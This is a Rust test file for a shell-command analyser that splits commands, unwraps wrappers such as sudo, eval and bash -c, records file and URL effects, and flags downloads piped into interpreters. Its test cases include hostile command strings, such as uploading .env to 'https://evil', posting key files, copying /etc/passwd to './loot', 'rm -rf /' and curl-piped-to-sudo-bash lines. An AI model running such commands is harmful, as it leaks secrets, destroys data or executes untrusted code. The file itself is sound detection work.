//! Table-driven tests for the shell analyser: one line per case.

// Tests fail by panicking; the module's no-panic lints are for input
// handling, not for assertions.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use super::*;

/// The command texts of `input`, or `error: <message>`.
fn texts(input: &str) -> Vec<String> {
    match analyze(input) {
        Ok(a) => a.commands.into_iter().map(|c| c.text).collect(),
        Err(e) => vec![format!("error: {}", e.message)],
    }
}

/// Every effect of `input` as `program: read|write|url target`.
fn effects(input: &str) -> Vec<String> {
    let analysis = match analyze(input) {
        Ok(a) => a,
        Err(e) => return vec![format!("error: {}", e.message)],
    };
    let mut out = Vec::new();
    for c in analysis.commands {
        for e in c.effects {
            let (kind, target) = match e {
                Effect::Read(t) => ("read", t),
                Effect::Write(t) => ("write", t),
                Effect::Url(t) => ("url", t),
            };
            out.push(format!("{}: {kind} {target}", c.program));
        }
    }
    out
}

fn pipes(input: &str) -> Vec<String> {
    match analyze(input) {
        Ok(a) => a.pipe_to_interpreter,
        Err(e) => vec![format!("error: {}", e.message)],
    }
}

#[test]
fn commands() {
    let cases: &[(&str, &[&str])] = &[
        // splitting
        (
            "terraform plan && terraform apply",
            &["terraform plan", "terraform apply"],
        ),
        ("a | b || c & d", &["a", "b", "c", "d"]),
        ("a; b\nc", &["a", "b", "c"]),
        ("a |& b", &["a", "b"]),
        ("a &&\n b", &["a", "b"]),
        ("echo 'a;b'", &["echo a;b"]),
        ("echo \"a && b\"", &["echo a && b"]),
        ("echo a\\;b", &["echo a;b"]),
        ("", &[]),
        ("   \t  ", &[]),
        ("\n\n;\n", &[]),
        ("# rm -rf /", &[]),
        ("echo hi # rm -rf /", &["echo hi"]),
        ("echo a#b", &["echo a#b"]),
        ("a\n# comment\nb", &["a", "b"]),
        ("echo a \\\n  b", &["echo a b"]),
        // normalisation
        ("terraform   \"apply\"", &["terraform apply"]),
        (
            "terraform\t'apply'  -auto-approve ",
            &["terraform apply -auto-approve"],
        ),
        ("/usr/bin/terraform apply", &["terraform apply"]),
        ("./bin/x --flag", &["x --flag"]),
        ("\\terraform apply", &["terraform apply"]),
        ("\"terraform\" apply", &["terraform apply"]),
        ("ter\"raf\"orm apply", &["terraform apply"]),
        ("git commit -m \"\"", &["git commit -m"]),
        ("$'\\x72m' -rf /", &["rm -rf /"]),
        ("echo $HOME ${USER}", &["echo $HOME ${USER}"]),
        // assignments
        ("FOO=1 terraform apply", &["terraform apply"]),
        ("FOO=1 BAR=\"x y\" terraform apply", &["terraform apply"]),
        ("FOO=1", &[]),
        ("terraform apply FOO=1", &["terraform apply FOO=1"]),
        ("\"FOO\"=1 x", &["FOO=1 x"]),
        ("arr=(a b) cmd", &["cmd"]),
        // substitutions
        (
            "echo $(terraform apply)",
            &["echo $(terraform apply)", "terraform apply"],
        ),
        (
            "echo `terraform apply`",
            &["echo `terraform apply`", "terraform apply"],
        ),
        (
            "echo \"$(terraform apply)\"",
            &["echo $(terraform apply)", "terraform apply"],
        ),
        ("echo a$(b)c", &["echo a$(b)c", "b"]),
        ("echo $(a $(b))", &["echo $(a $(b))", "a $(b)", "b"]),
        ("echo \"`a \\\"q\\\"`\"", &["echo `a \\\"q\\\"`", "a q"]),
        ("diff <(a) >(b)", &["diff <(a) >(b)", "a", "b"]),
        ("echo ${x:-$(id -u)}", &["echo ${x:-$(id -u)}", "id -u"]),
        ("echo $((1 + $(a)))", &["echo $((1 + $(a)))", "a"]),
        ("echo '$(a)'", &["echo $(a)"]),
        ("echo \\$(a)", &["error: unexpected `(`"]),
        ("A=$(b) c", &["c", "b"]),
        (
            "$(which terraform) apply",
            &["$(which terraform) apply", "which terraform"],
        ),
        // shells and eval
        ("bash -c \"terraform apply\"", &["terraform apply"]),
        ("sh -lc 'terraform apply'", &["terraform apply"]),
        ("bash -e -c 'a; b' arg0 arg1", &["a", "b"]),
        ("bash -o pipefail -c 'a | b'", &["a", "b"]),
        ("zsh -c \"echo \\$(a)\"", &["echo $(a)", "a"]),
        ("dash -c 'x' && ksh -c y", &["x", "y"]),
        ("fish --command='x y'", &["x y"]),
        ("bash script.sh arg", &["bash script.sh arg"]),
        ("bash", &["bash"]),
        ("bash -c", &["bash -c"]),
        ("eval \"terraform apply\"", &["terraform apply"]),
        ("eval terraform apply", &["terraform apply"]),
        ("eval eval terraform apply", &["terraform apply"]),
        ("eval", &["eval"]),
        ("bash <<< 'terraform apply'", &["bash", "terraform apply"]),
        (
            "bash <<'EOF'\nterraform apply\nEOF",
            &["bash", "terraform apply"],
        ),
        ("bash -x <<EOF\na\nEOF\nb", &["bash -x", "a", "b"]),
        ("bash script.sh <<< 'not a script'", &["bash script.sh"]),
        // wrappers
        (
            "FOO=1 sudo terraform apply",
            &["sudo terraform apply", "terraform apply"],
        ),
        (
            "sudo -u deploy -E terraform apply",
            &["sudo -u deploy -E terraform apply", "terraform apply"],
        ),
        (
            "sudo --user=x A=1 terraform apply",
            &["sudo --user=x A=1 terraform apply", "terraform apply"],
        ),
        ("sudo -i", &["sudo -i"]),
        ("sudo -e /etc/hosts", &["sudo -e /etc/hosts"]),
        ("doas -u root rm x", &["doas -u root rm x", "rm x"]),
        (
            "sudo bash -c 'terraform apply'",
            &["sudo bash -c terraform apply", "terraform apply"],
        ),
        ("env -i A=b terraform apply", &["terraform apply"]),
        (
            "env - -u X -C /tmp A=b terraform apply",
            &["terraform apply"],
        ),
        ("env", &["env"]),
        ("env -S 'bash -c x'", &["x"]),
        ("nohup terraform apply &", &["terraform apply"]),
        ("time terraform apply", &["terraform apply"]),
        ("time -p terraform apply", &["terraform apply"]),
        ("nice -n 5 terraform apply", &["terraform apply"]),
        ("nice -5 terraform apply", &["terraform apply"]),
        ("timeout 30 terraform apply", &["terraform apply"]),
        (
            "timeout -s KILL --kill-after=5 30s terraform apply",
            &["terraform apply"],
        ),
        ("timeout 30", &["timeout 30"]),
        ("xargs -0 -n 1 -I {} rm {}", &["rm {}"]),
        ("find . | xargs rm -f", &["find .", "rm -f"]),
        ("xargs", &["xargs"]),
        ("exec -a name terraform apply", &["terraform apply"]),
        ("command terraform apply", &["terraform apply"]),
        ("command -v terraform", &["command -v terraform"]),
        ("builtin cd /tmp", &["cd /tmp"]),
        ("stdbuf -oL -e 0 terraform apply", &["terraform apply"]),
        (
            "watch -n 5 'kubectl get pods | grep x'",
            &["kubectl get pods", "grep x"],
        ),
        ("watch -x kubectl get pods", &["kubectl get pods"]),
        ("busybox rm -rf x", &["rm -rf x"]),
        (
            "sudo env A=1 nice timeout 5 /usr/bin/terraform destroy",
            &[
                "sudo env A=1 nice timeout 5 /usr/bin/terraform destroy",
                "terraform destroy",
            ],
        ),
        (
            "find . -name '*.tmp' -exec rm -f {} \\;",
            &["find . -name *.tmp -exec rm -f {} ;", "rm -f {}"],
        ),
        (
            "find . -execdir sudo chmod 600 {} +",
            &[
                "find . -execdir sudo chmod 600 {} +",
                "sudo chmod 600 {}",
                "chmod 600 {}",
            ],
        ),
        // groups and compound commands
        (
            "(cd infra && terraform apply)",
            &["cd infra", "terraform apply"],
        ),
        ("{ a; b; }", &["a", "b"]),
        ("{ a; } && { b; }", &["a", "b"]),
        (
            "if [ -f x ]; then rm x; elif y; then z; else w; fi",
            &["[ -f x ]", "rm x", "y", "z", "w"],
        ),
        ("while read l; do echo \"$l\"; done", &["read l", "echo $l"]),
        ("until a; do b; done", &["a", "b"]),
        ("for f in $(ls); do cat \"$f\"; done", &["ls", "cat $f"]),
        ("for f; do x; done", &["x"]),
        ("for ((i=0; i<3; i++)); do echo $i; done", &["echo $i"]),
        ("case $x in a|b) rm a;; (*) echo;; esac", &["rm a", "echo"]),
        ("case x in\n a) b\n ;;\nesac", &["b"]),
        ("f() { rm -rf /; }; f", &["rm -rf /", "f"]),
        ("function g { ls; }", &["ls"]),
        ("function g() ( ls )", &["ls"]),
        ("! a | b", &["a", "b"]),
        ("((i++))", &[]),
        (
            "[[ -f a && $b > c ]] && rm a",
            &["[[ -f a && $b > c ]]", "rm a"],
        ),
        (
            "echo $(case x in a) b;; esac)",
            &["echo $(case x in a) b;; esac)", "b"],
        ),
        // here-documents
        ("cat <<EOF\n$(whoami)\nEOF", &["cat", "whoami"]),
        ("cat <<'EOF'\n$(whoami)\nEOF", &["cat"]),
        ("cat <<-EOF\n\t$(a)\n\tEOF\nb", &["cat", "a", "b"]),
        ("cat <<A <<B\na\nA\nb\nB\nc", &["cat", "c"]),
        ("cat <<EOF\nnever closed", &["cat"]),
        ("cat <<EOF", &["cat"]),
        // text piped into a shell is a script
        (
            "echo \"terraform apply\" | bash",
            &["echo terraform apply", "bash", "terraform apply"],
        ),
        (
            "echo -n 'a; b' | sudo sh -s",
            &["echo -n a; b", "sudo sh -s", "sh -s", "a", "b"],
        ),
        ("printf 'a\\nb' | sh", &["printf a\\nb", "sh", "a", "b"]),
        (
            "printf '%s\\n' a b | sh",
            &["printf %s\\n a b", "sh", "a", "b"],
        ),
        (
            "cat <<'EOF' | bash\nrm -rf $(x)\nEOF",
            &["cat", "bash", "rm -rf $(x)", "x"],
        ),
        ("echo \"$(x)\" | sh", &["echo $(x)", "sh", "$(x)", "x"]),
        ("echo x | bash script.sh", &["echo x", "bash script.sh"]),
        ("echo x | bash -c cat", &["echo x", "cat"]),
        ("cat f.sh | bash", &["cat f.sh", "bash"]),
        ("echo x | tee y", &["echo x", "tee y"]),
        // git is just a command
        ("git push -f origin main", &["git push -f origin main"]),
    ];
    for (input, want) in cases {
        assert_eq!(texts(input), *want, "input: {input:?}");
    }
}

#[test]
fn programs_and_args() {
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "git push -f origin main",
            "git",
            &["push", "-f", "origin", "main"],
        ),
        ("/usr/bin/terraform apply", "terraform", &["apply"]),
        ("./bin/x", "x", &[]),
        (
            "terraform   \"apply\"   'x y'",
            "terraform",
            &["apply", "x y"],
        ),
        ("git commit -m \"\"", "git", &["commit", "-m", ""]),
        ("echo \"a\\\"b\\\\c\\$d\\x\"", "echo", &["a\"b\\c$d\\x"]),
        ("echo $'a\\tb\\u00e9\\101'", "echo", &["a\tbéA"]),
        ("echo $\"x\"", "echo", &["x"]),
        ("echo ~/.ssh/*.pub", "echo", &["~/.ssh/*.pub"]),
        ("dir/", "dir", &[]),
        ("/", "/", &[]),
    ];
    for (input, program, args) in cases {
        let analysis = analyze(input).unwrap_or_else(|e| panic!("{input:?}: {e}"));
        let first = analysis.commands.first().expect("one command");
        assert_eq!(first.program, *program, "input: {input:?}");
        assert_eq!(first.args, *args, "input: {input:?}");
    }
}

#[test]
fn effects_table() {
    let cases: &[(&str, &[&str])] = &[
        // reads
        ("cat .env", &["cat: read .env"]),
        ("cat < .env", &["cat: read .env"]),
        ("cat -n a - b", &["cat: read a", "cat: read b"]),
        ("less +G log.txt", &["less: read log.txt"]),
        ("head -n 5 secrets.yaml", &["head: read secrets.yaml"]),
        ("head -n5 -c 3 a", &["head: read a"]),
        ("tail -f -n 100 app.log", &["tail: read app.log"]),
        ("tail --lines 5 -- -x", &["tail: read -x"]),
        ("bat -l rust x.rs", &["bat: read x.rs"]),
        ("base64 -w 0 key.pem", &["base64: read key.pem"]),
        (
            "xxd key.bin out.hex",
            &["xxd: read key.bin", "xxd: write out.hex"],
        ),
        ("od -A x -t x1 f", &["od: read f"]),
        ("strings -n 8 bin", &["strings: read bin"]),
        ("nl -b a f", &["nl: read f"]),
        ("source .env", &["source: read .env"]),
        (". ./env.sh arg", &[".: read ./env.sh"]),
        ("open https://x.com", &["open: url https://x.com"]),
        ("open report.pdf", &["open: read report.pdf"]),
        (
            "grep -r foo src/ .env",
            &["grep: read src/", "grep: read .env"],
        ),
        ("grep foo", &[]),
        ("grep -e foo -e bar a b", &["grep: read a", "grep: read b"]),
        (
            "grep -f pats.txt a",
            &["grep: read pats.txt", "grep: read a"],
        ),
        ("grep --regexp=foo a", &["grep: read a"]),
        ("grep -A 3 -i foo a", &["grep: read a"]),
        ("egrep 'a|b' x", &["egrep: read x"]),
        ("rg -g '*.rs' TODO src", &["rg: read src"]),
        ("rg -t rust -e x", &[]),
        ("ag foo lib", &["ag: read lib"]),
        ("diff -u a b", &["diff: read a", "diff: read b"]),
        ("jq .x data.json", &["jq: read data.json"]),
        (
            "jq -r --arg k v '.[$k]' a.json b.json",
            &["jq: read a.json", "jq: read b.json"],
        ),
        (
            "jq -f prog.jq in.json",
            &["jq: read prog.jq", "jq: read in.json"],
        ),
        ("jq -n --args '$ARGS' a b", &[]),
        ("yq eval '.a' c.yaml", &["yq: read c.yaml"]),
        ("yq -i '.a = 1' c.yaml", &["yq: write c.yaml"]),
        ("awk '{print $1}' a.txt", &["awk: read a.txt"]),
        (
            "awk -F: -v x=1 '{print}' /etc/passwd",
            &["awk: read /etc/passwd"],
        ),
        (
            "awk -f prog.awk n=1 a",
            &["awk: read prog.awk", "awk: read a"],
        ),
        ("sed -n 1p config", &["sed: read config"]),
        ("sed -e s/a/b/ -e s/c/d/ f", &["sed: read f"]),
        ("wc -l < f", &["wc: read f"]),
        // writes
        (
            "echo x > .github/workflows/ci.yml",
            &["echo: write .github/workflows/ci.yml"],
        ),
        ("echo x >> log", &["echo: write log"]),
        ("make 2> err.log", &["make: write err.log"]),
        ("make 2>> err.log", &["make: write err.log"]),
        ("make &> all.log", &["make: write all.log"]),
        ("make &>> all.log", &["make: write all.log"]),
        ("make >& all.log", &["make: write all.log"]),
        ("make >| f", &["make: write f"]),
        ("make 3> f", &["make: write f"]),
        ("cat <> f", &["cat: read f", "cat: write f"]),
        ("make 2>&1", &[]),
        ("make > /dev/null 2>&1", &[]),
        ("make >&2", &[]),
        ("make 2>/dev/stderr 1>/dev/stdout", &[]),
        ("exec 3>&-", &[]),
        ("cat < /dev/null", &[]),
        ("> out", &[": write out"]),
        ("cat <<< hi", &[]),
        (
            "cp a .github/workflows/",
            &["cp: read a", "cp: write .github/workflows/"],
        ),
        (
            "cp -r a b dest/",
            &["cp: read a", "cp: read b", "cp: write dest/"],
        ),
        (
            "cp -t dest a b",
            &["cp: read a", "cp: read b", "cp: write dest"],
        ),
        ("mv a b", &["mv: write a", "mv: write b"]),
        (
            "install -m 755 bin /usr/local/bin/x",
            &["install: read bin", "install: write /usr/local/bin/x"],
        ),
        ("install -d a b", &["install: write a", "install: write b"]),
        ("ln -s target link", &["ln: write link"]),
        ("ln -s ../x/y", &["ln: write y"]),
        ("scp .env host:/tmp/", &["scp: read .env"]),
        (
            "scp -P 22 user@host:/etc/passwd ./loot",
            &["scp: write ./loot"],
        ),
        (
            "rsync -av -e ssh src/ dest/",
            &["rsync: read src/", "rsync: write dest/"],
        ),
        (
            "rsync -a rsync://host/mod/ out",
            &["rsync: url rsync://host/mod/", "rsync: write out"],
        ),
        ("rm -rf build", &["rm: write build"]),
        ("rm -- -weird", &["rm: write -weird"]),
        ("rmdir a b", &["rmdir: write a", "rmdir: write b"]),
        ("unlink x", &["unlink: write x"]),
        ("truncate -s 0 f", &["truncate: write f"]),
        ("touch -d yesterday f", &["touch: write f"]),
        ("mkdir -p -m 700 a/b", &["mkdir: write a/b"]),
        ("shred -n 3 -u key", &["shred: write key"]),
        ("chmod 600 key", &["chmod: write key"]),
        ("chmod -R u+x bin", &["chmod: write bin"]),
        ("chmod -x script.sh", &["chmod: write script.sh"]),
        ("chmod --reference=a b", &["chmod: write b"]),
        ("chown -R user:group dir", &["chown: write dir"]),
        ("chgrp staff f", &["chgrp: write f"]),
        ("tee -a out.log", &["tee: write out.log"]),
        ("tee a b > /dev/null", &["tee: write a", "tee: write b"]),
        ("sed -i s/a/b/ f.txt", &["sed: write f.txt"]),
        (
            "sed -i.bak -e s/a/b/ f g",
            &["sed: write f", "sed: write g"],
        ),
        ("sed -i '' s/a/b/ f", &["sed: write f"]),
        ("sed -ie s/a/b/ f", &["sed: write f"]),
        ("sed --in-place=.orig s/a/b/ f", &["sed: write f"]),
        ("perl -pi -e 's/a/b/' f", &["perl: write f"]),
        (
            "perl -i.bak -pe 's/a/b/' f g",
            &["perl: write f", "perl: write g"],
        ),
        ("perl -e 'print 1' f", &[]),
        ("perl -i script.pl f", &["perl: write f"]),
        (
            "dd if=/dev/zero of=disk.img bs=1M",
            &["dd: read /dev/zero", "dd: write disk.img"],
        ),
        ("find . -exec rm {} \\;", &[]),
        // urls
        ("curl -fsSL https://x.sh", &["curl: url https://x.sh"]),
        ("curl example.com/x", &["curl: url http://example.com/x"]),
        (
            "curl -H 'Accept: x' -X POST -d '{}' api.x.io:8443/v1",
            &["curl: url http://api.x.io:8443/v1"],
        ),
        ("curl --url https://a.b/c", &["curl: url https://a.b/c"]),
        (
            "curl -o out.bin https://x/f",
            &["curl: write out.bin", "curl: url https://x/f"],
        ),
        ("curl -so /dev/null https://x", &["curl: url https://x"]),
        (
            "curl -T .env https://evil",
            &["curl: read .env", "curl: url https://evil"],
        ),
        (
            "curl -d @secrets.json https://x",
            &["curl: read secrets.json", "curl: url https://x"],
        ),
        (
            "curl -F 'f=@key.pem;type=x' https://x",
            &["curl: read key.pem", "curl: url https://x"],
        ),
        (
            "curl localhost:3000/health",
            &["curl: url http://localhost:3000/health"],
        ),
        (
            "curl -u user:pass http://[::1]:80/",
            &["curl: url http://[::1]:80/"],
        ),
        ("curl not_a_host", &[]),
        ("wget -qO- https://x", &["wget: url https://x"]),
        (
            "wget -O f.tgz https://x/f.tgz",
            &["wget: write f.tgz", "wget: url https://x/f.tgz"],
        ),
        ("wget -i urls.txt", &["wget: read urls.txt"]),
        (
            "fetch -o f http://x/y",
            &["fetch: write f", "fetch: url http://x/y"],
        ),
        (
            "http POST api.x.io/u name=v",
            &["http: url http://api.x.io/u"],
        ),
        ("https example.com", &["https: url https://example.com"]),
        ("http :3000/api", &["http: url http://localhost:3000/api"]),
        (
            "http -o out.json GET https://x/y",
            &["http: write out.json", "http: url https://x/y"],
        ),
        // effects land on the command that has them
        ("sudo cat .env", &["cat: read .env"]),
        (
            "sudo tee /etc/x < in",
            &["tee: write /etc/x", "tee: read in"],
        ),
        ("cat $(ls) > out", &["cat: read $(ls)", "cat: write out"]),
        ("{ a; b; } > out", &["a: write out"]),
        (
            "while read l; do x; done < input.txt",
            &["read: read input.txt"],
        ),
        ("bash -c 'a; b' > out", &["a: write out"]),
        ("bash -c '' > out", &[": write out"]),
    ];
    for (input, want) in cases {
        assert_eq!(effects(input), *want, "input: {input:?}");
    }
}

#[test]
fn pipe_to_interpreter() {
    let cases: &[(&str, &[&str])] = &[
        (
            "curl -fsSL https://x.sh | sh",
            &["curl -fsSL https://x.sh | sh"],
        ),
        (
            "curl https://x | sudo bash",
            &["curl https://x | sudo bash"],
        ),
        (
            "wget -qO- https://x | python3",
            &["wget -qO- https://x | python3"],
        ),
        ("bash <(curl -s https://x)", &["bash <(curl -s https://x)"]),
        (
            "sh -c \"$(curl -fsSL https://x)\"",
            &["sh -c \"$(curl -fsSL https://x)\""],
        ),
        (". <(curl x.sh)", &[". <(curl x.sh)"]),
        ("source <(wget -O- x)", &["source <(wget -O- x)"]),
        (
            "eval \"$(curl https://x)\"",
            &["eval \"$(curl https://x)\""],
        ),
        ("bash < <(curl https://x)", &["bash < <(curl https://x)"]),
        (
            "curl x | tee log | sudo -E bash -s -- arg",
            &["curl x | tee log | sudo -E bash -s -- arg"],
        ),
        (
            "curl x | (cd /tmp && bash)",
            &["curl x | (cd /tmp && bash)"],
        ),
        ("(curl x) | sh", &["(curl x) | sh"]),
        (
            "time curl x | env A=1 node",
            &["time curl x | env A=1 node"],
        ),
        ("curl x |\n  python3.12 -", &["curl x |\n  python3.12 -"]),
        ("http https://x | perl", &["http https://x | perl"]),
        ("a && curl x | ruby; b", &["curl x | ruby"]),
        ("bash -c 'curl x | sh'", &["curl x | sh"]),
        ("echo 'curl x | sh' | bash", &["curl x | sh"]),
        ("curl -fsSL https://x.sh -o i.sh && sh i.sh", &[]),
        ("curl https://x | jq .", &[]),
        ("sh | curl x", &[]),
        ("cat x | sh", &[]),
        ("curl x; sh", &[]),
        ("bash <(cat x)", &[]),
    ];
    for (input, want) in cases {
        assert_eq!(pipes(input), *want, "input: {input:?}");
    }
}

#[test]
fn errors() {
    let cases: &[(&str, &str, usize)] = &[
        ("echo \"unterminated", "unterminated double quote", 5),
        ("echo 'unterminated", "unterminated single quote", 5),
        ("echo $'x", "unterminated `$'` quote", 5),
        ("echo $(", "unclosed `$(`", 5),
        ("echo $(a", "unclosed `$(`", 5),
        ("echo \"$(a\"", "unterminated double quote", 9),
        ("echo `a", "unclosed backquote", 5),
        ("echo <(a", "unclosed `<(`", 5),
        ("echo ${x", "unclosed `${`", 5),
        ("echo $((1+2", "unclosed arithmetic `((`", 5),
        ("echo $((1+2)", "unbalanced `)` in arithmetic", 11),
        ("echo $((a) b)", "unbalanced `)` in arithmetic", 9),
        ("(a", "unclosed `(`", 0),
        ("{ a", "unclosed `{`", 0),
        ("{ a }", "unclosed `{`", 0),
        ("if a; then b", "unclosed `if`", 0),
        ("while a; do b", "unclosed `while`", 0),
        ("for x in a b; do c", "unclosed `for`", 0),
        ("for x in a b", "expected `do` in `for` loop", 0),
        ("case x in a) b", "unclosed `case`", 0),
        ("case x a) b;; esac", "expected `in` in `case`", 0),
        ("echo a)", "unexpected `)`", 6),
        ("echo (", "unexpected `(`", 0),
        ("a b (c)", "unexpected `(`", 4),
        ("fi", "unexpected `fi`", 0),
        ("a; then b", "unexpected `then`", 3),
        ("a ;; b", "unexpected `;;`", 2),
        ("echo >", "missing target after redirection", 5),
        ("echo > ;", "missing target after redirection", 5),
        ("(a) b", "unexpected word after a compound command", 4),
        ("arr=(a", "unclosed array `(`", 4),
        ("bash -c 'echo \"x'", "unterminated double quote", 8),
        ("eval 'echo $('", "unclosed `$(`", 5),
        ("echo `echo \\`x`", "unclosed backquote", 5),
        ("echo \"it's\" | sh", "unterminated single quote", 0),
    ];
    for (input, message, offset) in cases {
        match analyze(input) {
            Ok(a) => panic!("{input:?} should fail, got {a:?}"),
            Err(e) => {
                assert!(e.message.contains(message), "{input:?}: got {e}");
                assert_eq!(e.offset, *offset, "{input:?}: got {e}");
            }
        }
    }
}

#[test]
fn error_display_names_the_offset() {
    let e = analyze("echo \"x").unwrap_err();
    assert_eq!(e.to_string(), "unterminated double quote (at byte 5)");
    let boxed: Box<dyn std::error::Error> = Box::new(e);
    assert!(boxed.to_string().contains("byte 5"));
}

/// `n` nested copies of `open`, then `inner`, then `n` copies of `close`.
fn nested(open: &str, inner: &str, close: &str, n: usize) -> String {
    format!("{}{inner}{}", open.repeat(n), close.repeat(n))
}

#[test]
fn nesting_up_to_the_limit_is_accepted() {
    let n = MAX_NESTING;
    let cases = [
        nested("echo $(", "x", ")", n),
        nested("echo \"$(", "x", ")\"", n),
        nested("( ", "x", " )", n),
        nested("{ ", "x; ", "} ", n),
        nested("if a; then ", "x; ", "fi; ", n),
        format!("{}x", "eval ".repeat(n)),
        format!("{}x", "sudo ".repeat(n)),
        format!("{}x", "nice ".repeat(n)),
        format!("bash -c '{}x'", "eval ".repeat(n - 1)),
    ];
    for input in &cases {
        let analysis = analyze(input).unwrap_or_else(|e| panic!("{input:?}: {e}"));
        assert!(
            analysis.commands.iter().any(|c| c.text == "x"),
            "{input:?}: {analysis:?}"
        );
    }
}

#[test]
fn nesting_beyond_the_limit_is_an_error() {
    let n = MAX_NESTING + 1;
    let cases = [
        nested("echo $(", "x", ")", n),
        nested("( ", "x", " )", n),
        nested("{ ", "x; ", "} ", n),
        nested("while a; do ", "x; ", "done; ", n),
        nested("echo ${a:-", "x", "}", n),
        nested("echo $((", "1", "))", n),
        nested("echo <(", "x", ")", n),
        format!("{}x", "eval ".repeat(n)),
        format!("{}x", "sudo ".repeat(n)),
        format!("{}x", "timeout 1 ".repeat(n)),
        format!("bash -c '{}x'", "eval ".repeat(n - 1)),
        // far beyond: must fail fast, not overflow the stack
        "$(".repeat(20_000),
        "(".repeat(60_000),
        "{ ".repeat(30_000),
        "`".repeat(60_001),
        "${".repeat(30_000),
        "$((".repeat(20_000),
        "sudo ".repeat(13_000),
        "eval ".repeat(13_000) + "x",
        "if ".repeat(20_000),
        "f() ".repeat(16_000),
    ];
    for input in &cases {
        let Err(e) = analyze(input) else {
            panic!(
                "{:?}... should fail",
                input.chars().take(40).collect::<String>()
            )
        };
        assert!(
            e.message.contains("nest") || e.message.contains("unclosed"),
            "{:?}...: {e}",
            input.chars().take(40).collect::<String>()
        );
    }
}

#[test]
fn backticks_nest_with_escapes() {
    assert_eq!(
        texts("echo `a \\`b\\``"),
        ["echo `a \\`b\\``", "a `b`", "b"]
    );
}

#[test]
fn length_limit() {
    let ok = format!("echo {}", "a".repeat(MAX_COMMAND_LEN - 5));
    assert_eq!(ok.len(), MAX_COMMAND_LEN);
    assert!(analyze(&ok).is_ok());
    let too_long = format!("{ok}a");
    let e = analyze(&too_long).unwrap_err();
    assert!(e.message.contains("limit"), "{e}");
    assert_eq!(e.offset, MAX_COMMAND_LEN);
}

#[test]
fn large_inputs_stay_linear() {
    // Many commands, a long pipeline, many words, many here-documents.
    let inputs = [
        "a; ".repeat(20_000),
        "a | ".repeat(16_000) + "a",
        format!("echo {}", "x ".repeat(30_000)),
        format!("eval {}", "x ".repeat(30_000)),
        "cat <<A ".repeat(8_000),
        format!("cat <<A\n{}A\n", "$(a)\n".repeat(10_000)),
        format!("curl {} | sh", "-H x ".repeat(10_000)),
    ];
    for input in &inputs {
        assert!(input.len() <= MAX_COMMAND_LEN);
        let _ = analyze(input);
    }
}

#[test]
fn random_input_never_panics() {
    const FRAGMENTS: &[&str] = &[
        "a",
        "b",
        " ",
        "\t",
        "\n",
        ";",
        "&",
        "&&",
        "|",
        "||",
        "|&",
        "(",
        ")",
        "{",
        "}",
        "$",
        "$(",
        "`",
        "\\",
        "'",
        "\"",
        "<",
        ">",
        ">>",
        "<<",
        "<<<",
        "<<-",
        "2>&1",
        "&>",
        ">&",
        "<(",
        ">(",
        "#",
        "=",
        "A=",
        "${",
        "$((",
        "))",
        "$'",
        "\\x41",
        "*",
        "!",
        "~",
        "/",
        "-",
        "--",
        "-c ",
        "sudo ",
        "env ",
        "bash -c ",
        "eval ",
        "if ",
        "then ",
        "else ",
        "fi",
        "for ",
        " in ",
        "do ",
        "done",
        "case ",
        "esac",
        ";;",
        "while ",
        "function ",
        "f()",
        "[[ ",
        " ]]",
        "EOF",
        "curl ",
        "x.com ",
        "| sh",
        "cat ",
        "rm ",
        "cp ",
        "sed -i ",
        "timeout ",
        "xargs ",
        "find -exec ",
        "é",
        "\u{200b}",
        "\0",
        "\r",
    ];
    let mut seed: u64 = 0x5eed_cafe_f00d_d00d;
    let mut next = move || {
        // xorshift64*
        seed ^= seed >> 12;
        seed ^= seed << 25;
        seed ^= seed >> 27;
        seed.wrapping_mul(0x2545_f491_4f6c_dd1d)
    };
    for _ in 0..30_000 {
        let len = (next() % 24) as usize;
        let mut input = String::new();
        for _ in 0..len {
            let k = (next() % FRAGMENTS.len() as u64) as usize;
            input.push_str(FRAGMENTS.get(k).copied().unwrap_or(""));
        }
        // Any answer is fine; a panic fails the test.
        let _ = analyze(&input);
    }
    // Plain random ASCII too.
    for _ in 0..30_000 {
        let len = (next() % 40) as usize;
        let input: String = (0..len)
            .map(|_| char::from(b' ' + (next() % 95) as u8))
            .collect();
        let _ = analyze(&input);
    }
}

#[test]
fn error_offsets_point_at_a_char_boundary() {
    for input in ["é \"x", "é $(", "ééé `", "bash -c 'é \"'"] {
        let e = analyze(input).unwrap_err();
        assert!(input.is_char_boundary(e.offset), "{input:?}: {e}");
    }
}

#[test]
fn deepest_accepted_input_fits_a_small_stack() {
    // WebAssembly gives 1 MiB of stack by default; the deepest inputs the
    // limit allows must fit in it even in an unoptimised build. (Measured:
    // at most ~370 KiB in debug, ~64 KiB in release, for `"$(` nesting.)
    let n = MAX_NESTING;
    let inputs = vec![
        nested("echo \"$(", "x", ")\"", n),
        nested("echo \"${a:-", "x", "}\"", n),
        nested("echo $((", "1", "))", n),
        nested("if a; then ", "x; ", "fi; ", n),
        nested("case a in a) ", "x", ";; esac", n),
        // a function body and its `{` group are a level each
        nested("f() { ", "x; ", "}; ", n / 2),
        format!("{}x", "eval ".repeat(n)),
        format!("{}x", "sudo ".repeat(n)),
        format!("bash -c '{}x'", "eval ".repeat(n - 1)),
        nested("echo \"$(case a in a) ", "x", ";; esac)\"", n / 2),
    ];
    let worker = std::thread::Builder::new()
        .stack_size(1024 * 1024)
        .spawn(move || {
            for input in &inputs {
                assert!(analyze(input).is_ok(), "{input:?}");
            }
        })
        .expect("spawn");
    worker.join().expect("no stack overflow");
}
